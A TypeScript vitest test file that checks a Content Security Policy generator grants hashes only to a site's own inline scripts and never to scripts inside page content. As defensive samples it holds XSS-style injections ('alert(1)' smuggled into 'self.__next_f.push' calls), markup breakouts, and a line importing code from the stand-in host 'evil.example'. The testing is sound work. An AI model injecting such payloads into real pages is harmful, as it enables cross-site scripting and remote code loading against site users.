import { expect, test } from 'vitest';
import { hashSource } from '../../csp.ts';
import { parseEnvironment } from '../../env.ts';
import { loaderCode } from '../browser/loader.ts';
import { documentPolicy } from './finalize.ts';
import { parseDocument } from './html.ts';

/** Returns the script sources in the policy of a document. */
function scriptSources(html: string) {
  const policy = documentPolicy(parseDocument(html), parseEnvironment({}));
  return /script-src ([^;]*)/.exec(policy)?.[1]?.split(' ');
}

test('our inline scripts are allowed by their hashes; data blocks and files need none', () => {
  const [one, two] = ['self.__next_f.push([1,"a(b)\\u003c"])', '(self.__next_f=self.__next_f||[]).push([0])'];
  const html =
    `<script>${one}</script><script type="application/ld+json">{"a":1}</script>` +
    `<script src="/a.js" async=""></script><script id="x">${two}</script><script>${one}</script>`;
  expect(scriptSources(html)).toEqual(["'self'", hashSource(one), hashSource(two)]);
});

test.each([
  'alert(1)',
  'self.__next_f.push([0]);alert(1)',
  'self.__next_f.push([0],alert(1))',
  'self.__next_f.push(alert(1))',
  'self.__next_f.push([0])\nalert(1)//)',
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(import("//evil.example"))',
])('a script in content is not allowed: %s', (code) => {
  expect(scriptSources(`<script>${code}</script>`)).toEqual(["'self'"]);
});

const push = '<script>self.__next_f.push([1,"rows of a stranger"])</script>';
test.each([
  ['inside main', push],
  ['after an end of main', `</article></main>${push}`],
  ['before an open comment', `</article></main></body>${push}<!--`],
  ['beside a second head', `<head></head>${push}<head>`],
  ['as a copy of ours', `<script id="loader" data-runtime="/_next/a.js">${loaderCode}</script>`],
])('a script inside content is trusted neither as Next’s nor as ours: %s', (_, content) => {
  const own = 'self.__next_f.push([0])';
  const page = `<head></head><body><main>${content}</main><footer></footer><script>${own}</script></body>`;
  expect(scriptSources(page)?.filter((source) => source !== hashSource(own))).toEqual(["'self'"]);
});
